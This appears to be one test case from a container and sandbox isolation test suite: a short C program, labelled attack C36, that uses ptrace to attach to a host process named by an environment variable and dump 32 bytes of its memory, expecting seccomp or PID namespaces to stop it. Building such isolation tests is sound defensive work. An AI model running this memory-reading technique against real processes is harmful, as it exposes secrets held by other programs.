/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: C36
 * title: read the memory of a process of the host by tracing it
 * backends: docker, process
 * expect: completed exit
 * layers: seccomp, pid namespace
 * evidence: token
 * control docker: seccomp processes
 * control process: none
 */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/wait.h>

int main(void)
{
    pid_t pid = atoi(getenv("SENTINEL"));
    char *address = (char *)strtoul(getenv("ADDRESS"), NULL, 10);
    (void)ptrace(PTRACE_SEIZE, pid, NULL, NULL);
    (void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    (void)waitpid(pid, NULL, __WALL | WNOHANG);
    (void)usleep(50000);
    for (int i = 0; i < 32; i += 8) {
        long word = ptrace(PTRACE_PEEKDATA, pid, address + i, NULL);
        (void)fwrite(&word, 1, sizeof(word), stdout);
    }
    (void)puts("");
    return tell(0);
}
